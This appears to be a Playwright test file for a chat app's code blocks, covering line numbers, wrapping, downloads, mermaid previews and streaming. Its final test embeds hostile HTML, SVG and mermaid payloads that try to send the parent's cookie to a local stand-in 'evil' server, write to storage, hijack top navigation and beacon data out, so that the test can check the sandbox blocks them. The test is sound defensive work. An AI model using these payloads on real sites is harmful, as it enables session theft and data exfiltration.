import { once } from 'node:events';
import { readFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { describeInChromium } from '../harness/browser.ts';
import { expectSoon } from '../harness/expectSoon.ts';
import { type ChatApp, startChatApp } from './chatApp.ts';

const fence = (language: string, code: string) => `\`\`\`${language}\n${code}\n\`\`\`\n`;
const lines = fence('python', 'first = 1\nsecond = 2\nprint(first)');

describeInChromium('blocks of code, in Chromium', () => {
  let app: ChatApp;
  let page: Page;
  let outside: Server;
  beforeAll(async () => {
    app = await startChatApp();
    outside = createServer();
    outside.listen(0, '127.0.0.1');
    await once(outside, 'listening');
  }, 90_000);
  afterAll(async () => {
    outside?.closeAllConnections();
    outside?.close();
    await app?.close();
  }, 60_000);
  afterEach(() => page.context().close());

  it('wrap and number their lines by choice, which is remembered, and are saved as files', async () => {
    page = await app.open(await app.say(`${lines}\n${fence('', 'plain '.repeat(100))}`));
    const block = page.getByRole('region', { name: 'Code in python' });
    await block.waitFor();
    const number = () =>
      block
        .locator('code > span')
        .nth(1)
        .evaluate((line) => getComputedStyle(line, '::before').content);
    // The highlighter replaces the plain lines once it is loaded.
    await block.locator('code > span > span[style]').first().waitFor();
    await expectSoon(number).toBe('none');
    await page.getByRole('button', { name: 'Line numbers' }).first().press('Enter');
    await expectSoon(number).toContain('counter(line)');
    const plain = page.getByRole('region', { name: 'Code', exact: true });
    const overflows = () => plain.evaluate((body) => body.scrollWidth > body.clientWidth);
    await expectSoon(overflows).toBe(true);
    await page.getByRole('button', { name: 'Wrap lines' }).first().press('Enter');
    await expectSoon(overflows).toBe(false);
    await page.reload();
    await block.waitFor();
    await expectSoon(number).toContain('counter(line)');
    await expectSoon(overflows).toBe(false);
    // The block without a language has no empty line above its code.
    const header = page.locator('[data-unnamed] .code-block-header');
    await expectSoon(() => header.isVisible()).toBe(false);
    const saved = page.waitForEvent('download');
    await page.getByRole('button', { name: 'Download code' }).first().press('Enter');
    const file = await saved;
    expect(file.suggestedFilename()).toBe('code.py');
    expect(await readFile(await file.path(), 'utf8')).toBe('first = 1\nsecond = 2\nprint(first)\n');
  }, 60_000);

  it('draw a diagram on request, in the frame alone', async () => {
    page = await app.open(await app.say(fence('mermaid', 'graph TD\n  Alpha --> Omega')));
    const scripts: string[] = [];
    page.on('request', (request) => scripts.push(new URL(request.url()).pathname));
    await page.getByRole('region', { name: 'Code in mermaid' }).waitFor();
    expect(scripts.filter((path) => path.includes('mermaid.min'))).toEqual([]);
    await page.getByRole('button', { name: 'Show preview' }).press('Enter');
    const frame = page.frameLocator('iframe[title="Diagram"]');
    await frame.getByText('Omega').waitFor();
    await page.getByText('Drawing the diagram…').waitFor({ state: 'detached' });
    await expectSoon(() => page.locator('iframe[title="Diagram"]').getAttribute('sandbox')).toBe(
      'allow-scripts',
    );
    expect(await page.evaluate(() => 'mermaid' in window)).toBe(false);
    await page.getByRole('button', { name: 'Show code' }).press('Enter');
    await page.getByRole('region', { name: 'Code in mermaid' }).waitFor();
  }, 60_000);

  it('show the error of a diagram as text', async () => {
    page = await app.open(await app.say(fence('mermaid', 'graph TD\n  <b>no</b> -->')));
    await page.getByRole('button', { name: 'Show preview' }).press('Enter');
    const problem = page.getByRole('alert').filter({ hasText: 'This diagram has an error.' });
    await problem.waitFor();
    expect(await problem.locator('b').count()).toBe(0);
  }, 60_000);

  it('have no preview while they stream', async () => {
    app.play({
      tokens: ['```html\n', '<p>Half', ...Array.from({ length: 400 }, () => ' more')],
      tokensPerSecond: 40,
    });
    page = await app.open();
    await page.getByRole('textbox', { name: 'Message', exact: true }).fill('Stream');
    await page.keyboard.press('Enter');
    await page.getByRole('region', { name: 'Code in html' }).waitFor();
    await page.getByRole('button', { name: 'Copy code' }).waitFor();
    expect(await page.getByRole('button', { name: 'Show preview' }).count()).toBe(0);
    await page.getByRole('button', { name: 'Stop', exact: true }).click();
  }, 60_000);

  it('keep a hostile page and a hostile diagram away from the app and the network', async () => {
    const reached: string[] = [];
    outside.on('request', (request, response) => {
      reached.push(request.url ?? '');
      response.setHeader('access-control-allow-origin', '*').end('reached');
    });
    const evil = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`;
    const attack = `
      const tell = (what) => { document.title = what; fetch('${evil}/' + what).catch(() => {}); };
      try { tell('cookie' + parent.document.cookie); } catch {}
      try { parent.localStorage.setItem('stolen', 'yes'); } catch {}
      try { top.location = '${evil}/top'; } catch {}
      try { parent.postMessage({ kind: 'drawn', height: 1e9 }, '*'); } catch {}
      fetch('${app.server.url}/graphql', { method: 'POST', credentials: 'include', body: '{}' }).then(() => tell('api'), () => {});
      location = '${evil}/self';`;
    const hostile = `<!doctype html><html><head><meta http-equiv="refresh" content="0;url=${evil}/refresh">
<base href="${evil}/"><link rel="stylesheet" href="${evil}/style.css"><script src="${evil}/script.js"></script>
<style>@import "${evil}/import.css"; body { background: url(${evil}/background.png) } @font-face { font-family: x; src: url(${evil}/font.woff) } p { font-family: x }</style>
</head><body onload="${attack.replaceAll('"', "'").replaceAll('\n', ' ')}"><script>${attack}</script>
<p>Harmless words</p><img src="${evil}/image.png" onerror="parent.localStorage.setItem('stolen', 'yes')">
<svg onload="parent.localStorage.setItem('stolen', 'yes')"><script>${attack}</script><image href="${evil}/svg.png"/></svg>
<iframe src="${evil}/frame"></iframe><object data="${evil}/object"></object>
<form id="f" action="${evil}/form" target="_top"><button>Go</button></form>
<a href="${evil}/link" target="_top">Top</a> <a href="${evil}/inside">Inside</a> <a href="${app.server.url}/settings" target="_parent">Parent</a></body></html>`;
    const diagram = `%%{init: {"securityLevel": "loose", "themeCSS": "@import url(${evil}/theme.css); * { background: url(${evil}/theme.png) }"}}%%
graph TD
  A["<img src='${evil}/diagram.png' onerror='parent.localStorage.setItem(1,2)'>Words"] --> B
  click A href "${evil}/click" _top
  click B call parent.alert()`;
    page = await app.open(
      await app.say(
        `${fence('html', hostile)}\n${fence('svg', `<svg xmlns="http://www.w3.org/2000/svg"><script>${attack}</script><text y="20">Drawn</text></svg>`)}\n${fence('mermaid', diagram)}`,
      ),
    );
    const address = page.url();
    const calls: string[] = [];
    await page.getByRole('button', { name: 'Show preview' }).first().waitFor();
    page.on('response', (response) => {
      if (response.frame() !== page.mainFrame()) calls.push(response.url());
    });
    while (await page.getByRole('button', { name: 'Show preview' }).count())
      await page.getByRole('button', { name: 'Show preview' }).first().press('Enter');
    const html = page.frameLocator('iframe[title="Preview"]').first();
    await html.getByText('Harmless words').waitFor();
    await page.frameLocator('iframe[title="Preview"]').nth(1).getByText('Drawn', { exact: true }).waitFor();
    await page.frameLocator('iframe[title="Diagram"]').getByText('Words').waitFor();
    for (const link of ['Top', 'Parent']) await html.getByRole('link', { name: link }).click({ force: true });
    await html.getByRole('button', { name: 'Go' }).click({ force: true });
    await html.getByRole('link', { name: 'Inside' }).click({ force: true });
    // As if the diagram had broken out of the library.
    const frame = await (await page.locator('iframe[title="Diagram"]').elementHandle())?.contentFrame();
    const tried = await frame?.evaluate(
      async ([outer, own]) => {
        const attempt = async (act: () => unknown) => {
          try {
            return (await act()) === null ? 'refused' : 'done';
          } catch {
            return 'refused';
          }
        };
        const results = [
          await attempt(() => fetch(`${outer}/fetch`, { mode: 'no-cors' })),
          await attempt(() =>
            fetch(`${own}/graphql`, { method: 'POST', mode: 'no-cors', credentials: 'include' }),
          ),
          await attempt(() => parent.document.title),
          await attempt(() => localStorage.length),
          await attempt(() => document.cookie),
          await attempt(() => indexedDB.open('stolen')),
          await attempt(() => window.open(`${outer}/popup`)),
        ];
        try {
          if (top) top.location.href = `${outer}/top`;
        } catch {
          // Refused at once. The address of the page is compared below.
        }
        new Image().src = `${outer}/pixel`;
        navigator.sendBeacon(`${outer}/beacon`);
        document.body.append(Object.assign(document.createElement('script'), { src: `${own}/theme.js?x` }));
        // After the results have been returned: it ends this document.
        setTimeout(() => {
          location.href = `${outer}/navigate`;
        });
        return results;
      },
      [evil, app.server.url],
    );
    expect(tried).toEqual(Array.from({ length: 7 }, () => 'refused'));
    // A later request of the page itself proves that the earlier ones would have arrived.
    await page.request.get(`${evil}/last`);
    expect(reached).toEqual(['/last']);
    expect(page.url()).toBe(address);
    expect(page.context().pages()).toHaveLength(1);
    expect(await page.evaluate(() => localStorage.getItem('stolen') ?? localStorage.getItem('1'))).toBeNull();
    expect(
      calls.filter(
        (url) => !/\/(assets\/mermaid\.min[^/]*|diagram)\.js$/.test(url) && url.startsWith('http'),
      ),
    ).toEqual([]);
    const origins = await Promise.all(
      page
        .frames()
        .filter((frame) => frame !== page.mainFrame())
        .map((frame) => frame.evaluate(() => self.origin).catch(() => 'null')),
    );
    expect(new Set(origins)).toEqual(new Set(['null']));
  }, 90_000);
});
